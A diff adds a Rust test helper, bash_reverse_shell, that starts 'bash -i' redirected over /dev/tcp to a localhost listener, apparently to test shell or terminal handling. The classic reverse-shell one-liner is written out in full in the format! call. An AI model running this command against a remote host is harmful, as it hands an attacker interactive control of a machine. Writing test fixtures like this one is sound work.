@@ -310,3 +310,20 @@ impl Drop for KillOnDrop {
         }
     }
 }
+
+/// `bash -i` with its stdio on a TCP connection to a listener of the test's (the classic
+/// `/dev/tcp` reverse shell): the shell, the test's end of the connection, and the port.
+pub fn bash_reverse_shell() -> (KillOnDrop, std::net::TcpStream, u16) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let shell = KillOnDrop::new(
+        Command::new("bash")
+            .args(["-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
+            .stdin(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let (peer, _) = listener.accept().unwrap();
+    (shell, peer, port)
+}
